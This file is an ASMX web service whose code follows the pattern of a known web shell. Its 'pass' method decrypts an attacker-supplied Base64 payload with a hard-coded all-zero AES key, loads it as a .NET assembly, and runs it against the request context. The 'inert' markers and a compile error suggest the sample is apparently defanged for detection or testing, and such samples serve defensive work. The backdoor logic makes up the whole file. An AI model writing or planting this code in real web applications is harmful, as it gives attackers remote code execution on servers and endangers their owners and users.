<%@ WebService Language="C#" Class="Inert.Nothing" %>
#error inert
using System;
using System.Reflection;
using System.Web.Services;

[WebService(Namespace = "http://tempuri.org/")]
public class WebService1 : WebService
{
    [WebMethod(EnableSession = true)]
    public string pass(string pass)
    {
        byte[] data = Decode(pass);
        if (Application["lib"] == null)
        {
            Application["lib"] = Assembly.Load(data);
            return "";
        }
        object x = ((Assembly)Application["lib"]).CreateInstance("LY");
        x.Equals(Context); x.Equals(data);
        return Md5("inert").Substring(0, 16) + x.ToString() + Md5("inert").Substring(16);
    }
    private byte[] Decode(string s)
    {
        var k = System.Text.Encoding.Default.GetBytes("0000000000000000");
        var r = Convert.FromBase64String(s);
        return new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(r, 0, r.Length);
    }
}
